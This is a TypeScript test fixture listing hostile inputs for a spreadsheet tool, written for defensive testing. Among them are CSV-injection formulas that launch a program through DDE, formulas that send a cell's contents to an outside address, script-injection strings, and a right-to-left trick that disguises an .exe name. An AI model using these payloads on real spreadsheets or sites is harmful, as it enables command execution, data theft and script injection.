/**
 * Hostile input: what somebody may type, paste or send so that a spreadsheet, a browser or this
 * program does something that nobody asked for. Every one ends in a clear message or in a harmless
 * text cell; nothing of it runs, nothing takes over two seconds, memory stays under 1 GB.
 *
 * | file              | what comes in                                                                |
 * | ----------------- | ---------------------------------------------------------------------------- |
 * | `injection`       | these texts, in every text of every input sheet, alone and all at once       |
 * | `later-sheets`    | the same in ballots, registers, council, dossier and history                 |
 * | `people`          | the same worked out by hand for a list of ten                                |
 * | `natural-names`   | units, codes and headings called `__proto__` and the like                    |
 * | `sizes`           | the longest cells, ten thousand units, 500 columns, a million rows           |
 * | `package`, `damage` | packages broken by hand, part by part; a campaign's file, and its macros   |
 * | `files`           | files that are none, bombs, and what a program made of them in time and room |
 * | `../browser/hostile` | scripts and marks in names, shown by pane and preview                     |
 */

/** What it is for, and the text. The first are OWASP's (CSV injection), with their disguises. */
export const TEXTS: readonly (readonly [string, string])[] = [
  ['a formula', '=1+1'],
  ['a program', "=cmd|' /C calc'!A0"],
  ['a link', '=HYPERLINK("http://example.org/?"&A1,"bấm")'],
  ['a page that is read', '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")'],
  ['an address that is asked', '=WEBSERVICE("http://example.org/"&A1)'],
  ['a plus', '+1+1'],
  ['a plus and a program', "+cmd|' /C calc'!A0"],
  ['a minus', '-2+3+A1'],
  ['an at sign', '@SUM(1+1)'],
  ['a tab before', '\t=1+1'],
  ['a carriage return before', '\r=1+1'],
  ['a line feed before', '\n=1+1'],
  ['full-width equals', '＝1+1'],
  ['full-width plus', '＋1+1'],
  ['full-width minus', '－1+1'],
  ['full-width at', '＠SUM(1)'],
  ['an apostrophe before', "'=1+1"],
  ['apostrophes around', "''x'!A1'"],
  ['a blank before', ' =1+1'],
  ['a hard blank before', '\u00a0=1+1'],
  ['nothing visible before', '\u200b=1+1'],
  ['a byte order mark before', '\ufeff=1+1'],
  ['a look of letters in a header', '&K00FF00&"Arial,Bold"&24'],
  ['a file name in a header', '&[File] &F &P &D'],
  ['a size in a header', '&99'],
  ['the end of a text', '"&A1&"'],
  ['a quoted list', 'x","y'],
  ['a list', '=A1:A9,y;z'],
  ['no name for a sheet', '[a]:*?/\\'],
  ['a name that Excel keeps', 'History'],
  ['a reference', "'Cá nhân'!$A$1"],
  ['a structured reference', 'KetQua[[#All],[Tên]]'],
  ['a pattern for replacing', "$& $1 $` $' $$"],
  ['a template', '{{1}} ${asOf} %s {0}'],
  ['a script', '<script>window.__ran = 1</script>'],
  ['a picture that fails', '<img src=x onerror="window.__ran = 1">'],
  ['an address that is a script', 'javascript:window.__ran=1'],
  ['the end of markup', ']]></t></si>&#0;&x;'],
  ['an escape of the file format', '_x0041__x005F_'],
  ['a control character', 'a\u0001b\u001f'],
  ['a null character', 'a\u0000b'],
  ['half of a letter', 'x\ud800'],
  ['the other half', '\udc00x'],
  ['no characters', '\ufffe\uffff'],
  ['letters from right to left', '\u202ecod.exe'],
  ['marks above marks', `a${'\u0301\u0323'.repeat(200)}`],
  ['an error', '#REF!'],
  ['a number', '1E5'],
  ['a day', '1/2'],
  ['a boolean', 'TRUE'],
  ['zeros before', '001'],
  ['stars', '*?~'],
];
